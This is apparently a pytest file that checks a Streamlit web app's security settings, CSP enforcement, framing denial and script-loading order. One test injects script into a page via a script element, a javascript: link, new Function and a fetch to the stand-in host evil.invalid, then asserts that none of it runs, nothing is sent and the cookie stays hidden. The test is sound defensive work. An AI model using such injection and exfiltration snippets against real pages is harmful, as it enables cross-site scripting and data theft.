"""What the server is told, asserted on what it understood, and what it refuses."""

import json
import re
import subprocess
import sys

import pytest

from tests.house.source import ROOT

EFFECTIVE = {
    "browser.gatherUsageStats": False,
    "client.allowedOrigins": [],
    "client.disableDataExport": True,
    "client.showErrorDetails": "none",
    "client.showErrorLinks": False,
    "client.toolbarMode": "minimal",
    "global.developmentMode": False,
    "logger.enableRich": False,
    "runner.magicEnabled": False,
    "runner.postScriptGC": False,
    "server.address": "127.0.0.1",
    "server.allowedHosts": ["localhost", "127.0.0.1"],
    "server.corsAllowedOrigins": [],
    "server.enableAgentApi": False,
    "server.enableCORS": True,
    "server.enableStaticServing": False,
    "server.enableXsrfProtection": True,
    "server.fileWatcherType": "none",
    "server.headless": True,
    "server.maxUploadSize": 25,
    "server.scriptHealthCheckEnabled": False,
    "server.trustedUserHeaders": {},
    "server.unsafeMetricsUserAttributes": [],
    "server.xsrfCookieSameSite": "strict",
}


def test_the_settings_that_guard_the_server_are_in_force():
    ask = f"import json, streamlit.config as c; print(json.dumps({{name: c.get_option(name) for name in {list(EFFECTIVE)}}}))"
    told = subprocess.run([sys.executable, "-c", ask], cwd=ROOT, capture_output=True, text=True, check=True)
    assert json.loads(told.stdout.splitlines()[-1]) == EFFECTIVE


@pytest.mark.parametrize("path", ["/monitor/overview", "/pages/monitor/workload", "/parts/doorkeeper"])
def test_no_script_is_served_past_the_front_door(browser, server, path):
    page = browser.new_page()
    page.goto(f"{server}{path}")
    page.wait_for_timeout(2_000)
    assert page.locator(".headlines").count() == 0
    assert "applications" not in page.content()
    page.close()


_RUNS = """async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "words in the page"';
    document.head.append(script);
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.ran = "an address"' });
    document.body.append(link);
    link.click();
    // A little later: what the browser is told to do from without may do everything.
    setTimeout(() => { window.ran = new Function('return "words made a function"')(); });
    const sent = await fetch('http://evil.invalid/').then(() => 'sent', () => 'not sent');
    await new Promise(done => setTimeout(done, 500));
    return [window.ran ?? 'nothing', sent, document.cookie];
}"""


@pytest.mark.usefixtures("because_the_test_attacks_the_page")
def test_what_gets_into_a_page_runs_no_script_sends_nothing_away_and_reads_no_cookie_of_ours(visit):
    page = visit("/")
    ran, sent, cookies = page.evaluate(_RUNS)
    assert (ran, sent) == ("nothing", "not sent")
    assert "review_browser" not in cookies
    assert "review_browser" in {cookie["name"] for cookie in page.context.cookies()}
    told = [line for line in page.told if "Content Security Policy" in line]
    assert len(told) >= 4


def test_no_page_is_shown_in_a_frame(browser, server):
    page = browser.new_page()
    page.set_content(f'<iframe src="{server}/"></iframe>')
    page.wait_for_timeout(2_000)
    assert page.frames[1].get_by_test_id("stApp").count() == 0
    page.close()


_WHEN_IT_STANDS = """
new MutationObserver((_, watch) => {
    if (!document.querySelector('.picture img')) return;
    watch.disconnect();
    window.stoodAt = performance.now();
}).observe(document, { childList: true, subtree: true });
"""
_CAME_AFTER = (
    """() => performance.getEntriesByType('resource').find(one => one.name.includes('/PlotlyChart.')).startTime > window.stoodAt"""
)


def test_what_draws_charts_to_explore_comes_when_the_first_page_stands_and_is_there_for_the_next(browser, server):
    page = browser.new_context().new_page()
    asked, said = [], []
    page.on("request", lambda sent: asked.append(sent.url))
    page.on("response", lambda got: said.append((got.url, got.status)))
    page.add_init_script(_WHEN_IT_STANDS)
    with page.expect_response(re.compile(r"/PlotlyChart\.")):
        page.goto(server)
    assert page.evaluate(_CAME_AFTER), "it would take its time from the first page"
    page.get_by_role("link", name="Findings").click()
    page.locator(".js-plotly-plot .trace").first.wait_for(state="attached")
    parts = [url for url in asked if "/static/js/" in url]
    assert len(set(parts)) == len(parts)
    assert [url for url, status in said if "/static/" in url and status >= 400] == []
    page.context.close()


def test_what_every_page_is_drawn_with_is_asked_for_before_the_figures_come(browser, server):
    page = browser.new_context().new_page()
    asked = []
    page.on("request", lambda sent: asked.append(sent.url))
    page.on("websocket", lambda _opened: asked.append("the figures"))
    page.goto(server)
    page.locator(".picture img").first.wait_for()
    words = next(place for place, url in enumerate(asked) if "/static/js/Html." in url)
    assert words < asked.index("the figures")
    page.context.close()
